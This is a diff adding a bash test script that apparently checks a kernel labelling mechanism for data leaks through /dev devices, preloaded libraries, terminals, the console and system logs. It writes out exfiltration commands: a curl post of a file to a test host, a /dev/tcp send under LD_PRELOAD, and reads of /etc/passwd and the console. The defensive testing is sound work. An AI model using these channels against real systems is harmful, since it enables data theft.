@@ -1,0 +1,120 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0
+#
+# What everything touches: where the label goes by it, and where it does not
+#
+# run-long: --timeout 300
+#
+#	opens the file                               never does
+#	  +-------+    +----------------------+      +-------+
+#	  | giver |--->| null, libraries, tty |      | taker |---> us
+#	  |       |    +----------------------+      |       |
+#	  |       |--->| logs, screen, a      |----->|       |--x us
+#	  |       |    | library that it wrote|      |       |
+#	  +-------+    +----------------------+      +-------+
+. "$(dirname "$0")/lib/case.sh"
+. "$(dirname "$0")/lib/holder.sh"
+. "$(dirname "$0")/lib/services.sh"
+
+mkdir -m 1777 /run/touched
+sends() { "$ATTACK/obtain" read "$PUBLIC" "$(address us 4)"; }
+# gives COMMAND...: by somebody who has the label, and is there until it ends
+gives() { (exec 9<"$REGULATED" && "$@") >/dev/null 2>&1; }
+
+# --- nothing is kept there
+
+# device NAME: the taker opens it after the giver wrote to it, reads, and sends
+write_to() { cat "$REGULATED" >"$1"; }
+device()
+{
+	gives write_to "$1"
+	exec 8<>"$1"
+	head -c 100 <&8 >/run/touched/read
+	echo >&8
+	sends
+}
+for name in null zero full random urandom; do
+	free "/dev/$name" device "/dev/$name"
+	fails "/dev/$name: nothing of the file" grep -qaFf $REGULATED /run/touched/read
+done
+
+# --- libraries and programs
+
+uses() { gives /bin/bash -c 'cat </etc/passwd; date; ldd /bin/sh'; curl -sS -m 5 "http://$US4/" --data-binary "@$PUBLIC"; }
+free "libraries and programs that the giver used" uses
+# Those that it wrote
+gives install -m 755 "$ATTACK/obtain" /run/touched/obtain
+held "a program that the giver wrote" /run/touched/obtain read $PUBLIC "$US4"
+library=$(ldd /bin/bash | sed -n 's/.*=> \([^ ]*tinfo[^ ]*\).*/\1/p')
+install -m 755 "$library" /run/touched/free.so
+gives install -m 755 "$library" /run/touched/held.so
+preloads() { LD_PRELOAD=$1 /bin/bash -c "cat >/dev/tcp/$US4/9000" <$PUBLIC; }
+free "a library that somebody else wrote" preloads /run/touched/free.so
+EXPECT=silence held "a library that the giver wrote" preloads /run/touched/held.so
+
+# --- terminals
+
+# Both at the same terminal: what is typed is read, not what was printed.
+cat >/run/touched/typed.py <<'END'
+import os, subprocess, sys
+master, slave = os.openpty()
+subprocess.run(["head", "-n", "3", sys.argv[1]], stdout=slave, check=True)
+os.write(master, b"go\n")
+assert os.read(slave, 10) == b"go\n"
+os.execv(sys.argv[2], sys.argv[2:])
+END
+typed() { /usr/bin/python3 -IS /run/touched/typed.py "$1" "$ATTACK/obtain" read $PUBLIC "$US4"; }
+free "what is typed at a terminal that the giver printed on" typed $REGULATED
+
+console() { gives write_to /dev/console; sends; }
+free "the console" console
+# Root may have what the console is given at another terminal.
+cat >/run/touched/console.py <<'END'
+import fcntl, os, subprocess, sys, termios
+master, slave = os.openpty()
+fcntl.ioctl(slave, termios.TIOCCONS)
+with open("/dev/console", "wb") as console:
+    subprocess.run(["head", "-n", "16", sys.argv[1]], stdout=console, check=True)
+with open("/run/touched/console", "wb") as file:
+    file.write(os.read(master, 65536))
+END
+redirected()
+{
+	/usr/bin/python3 -IS /run/touched/console.py "$FILE"
+	send /run/touched/console
+}
+USERS=root deny "the console, at another terminal" redirected
+screen()
+{
+	head -n 16 "$FILE" >/dev/tty9
+	cat /dev/vcs9 >/run/touched/screen
+	send /run/touched/screen
+}
+USERS=root deny "the screen of a virtual console" screen
+
+# --- logs
+
+both start_rsyslogd
+log_file()
+{
+	local end=end-$RANDOM$RANDOM log
+
+	log=$SERVICES/logged-$(port 514)
+	logger -u "$SERVICES/log-$(port 514)" -f "$FILE" &&
+	logger -u "$SERVICES/log-$(port 514)" "$end" &&
+	wait_until grep -q "$end" "$log"
+	send "$log"
+}
+USERS=user deny "what rsyslogd wrote" log_file
+
+# The kernel's log, by /dev/kmsg and by the call. It keeps its label: one case.
+echo on >/proc/sys/kernel/printk_devkmsg
+kernel_log()
+{
+	(while read -r line; do echo "$line" >/dev/kmsg; done) < <(head -n 16 "$FILE")
+	dmesg >/run/touched/log
+	dmesg -S >/run/touched/log-again
+	send /run/touched/log
+	send /run/touched/log-again
+}
+ATLEAST=16 USERS=root deny "the kernel's log" kernel_log
